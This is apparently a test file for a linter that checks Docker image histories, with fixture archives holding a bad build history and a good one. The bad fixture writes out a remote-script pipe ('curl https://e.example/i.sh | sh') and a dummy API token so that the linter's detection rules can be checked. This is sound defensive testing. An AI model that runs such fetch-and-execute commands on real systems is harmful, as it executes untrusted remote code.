import { readFileSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { dockerArchive } from '../fakes/docker-archive.ts';
import { type Bench, startBench } from '../harness/holdfast.ts';

let bench: Bench;

beforeAll(() => {
  bench = startBench();
  const files = [{ name: 'srv/file', body: 'x' }];
  const bad = dockerArchive({
    steps: [
      { instruction: '/bin/sh -c #(nop) ADD file:0123 in / ', files },
      { empty: '/bin/sh -c #(nop)  ENV API_TOKEN=8sd7f6sd87f6' },
      // Not read, so that nobody sees that it is damaged.
      { instruction: 'RUN /bin/sh -c curl https://e.example/i.sh | sh # buildkit', bytes: Buffer.alloc(700, 7) },
      { empty: 'USER root' },
    ],
  });
  writeFileSync(bench.path('bad.tar'), bad);
  const good = dockerArchive({ steps: [{ instruction: 'COPY /src /srv # buildkit', files }, { empty: 'USER 1000' }] });
  writeFileSync(bench.path('good.tar'), good);
  writeFileSync(bench.path('good.tar.gz'), gzipSync(good));
  writeFileSync(bench.path('flat.tar'), dockerArchive({ steps: [{ instruction: '', files }] }));
});
afterAll(() => bench.remove());

const lint = (...args: readonly string[]) => bench.run(['lint', ...args]);

test('an image is judged by its history, with layers for places', async () => {
  const ran = await lint('image:bad.tar', '--format', 'json');
  expect(ran).toMatchObject({ code: 3, stderr: '' });
  const report = JSON.parse(ran.stdout);
  const schema = JSON.parse(readFileSync('docs/reference/lint-report.schema.json', 'utf8'));
  const ajv = new Ajv2020();
  expect(ajv.validate(schema, report), ajv.errorsText()).toBe(true);
  const [judged] = report.judged;
  expect(judged).toMatchObject({ path: 'image:bad.tar', kind: 'image', problems: [] });
  const rules = judged.reasons.map(({ rule, positions }: { rule: string; positions: { layer: number }[] }) => [
    rule,
    positions[0]?.layer,
  ]);
  expect(rules).toEqual(
    expect.arrayContaining([
      ['build/remote-script', 1],
      ['build/secret-in-variable', 0],
    ]),
  );
  expect(ran.stdout).not.toContain('8sd7f6sd87f6');
  const { stdout } = await lint('image:bad.tar');
  expect(stdout).toContain('layer 1');
  expect(stdout).toMatch(/findings? in 1 image: /);
  expect((await lint('image:bad.tar', '--only', 'build/root-user', '--fail-on', 'critical')).code).toBe(0);
});

test('hadolint’s configuration counts for histories, too', async () => {
  writeFileSync(bench.path('quiet.yaml'), 'ignored: [DL3002]\noverride:\n  info: [build/secret-in-variable]\n');
  const ran = await lint('image:bad.tar', '--config', 'quiet.yaml', '--format', 'json');
  const { reasons } = JSON.parse(ran.stdout).judged[0];
  const levels = new Map(reasons.map(({ rule, severity }: { rule: string; severity: string }) => [rule, severity]));
  expect(levels.has('build/root-user')).toBe(false);
  expect(levels.get('build/secret-in-variable')).toBe('low');
});

test('good images pass, also compressed, and beside files', async () => {
  writeFileSync(bench.path('Dockerfile'), 'FROM scratch\nCOPY a /a\nUSER 1000\n');
  const ran = await lint('image:good.tar', 'image:docker-archive:good.tar.gz', 'Dockerfile');
  expect(ran).toMatchObject({ code: 0, stderr: '' });
  expect(ran.stdout).toContain('in 2 images and 1 file');
});

test('what has no history was not judged, and a name that means nothing is a usage error', async () => {
  const flat = await lint('image:flat.tar');
  expect(flat.code).toBe(4);
  expect(flat.stdout).toContain('LINT_NO_HISTORY');
  expect(await lint('image:')).toMatchObject({ code: 2 });
  expect(await lint('image:./absent.tar')).toMatchObject({ code: 2 });
});
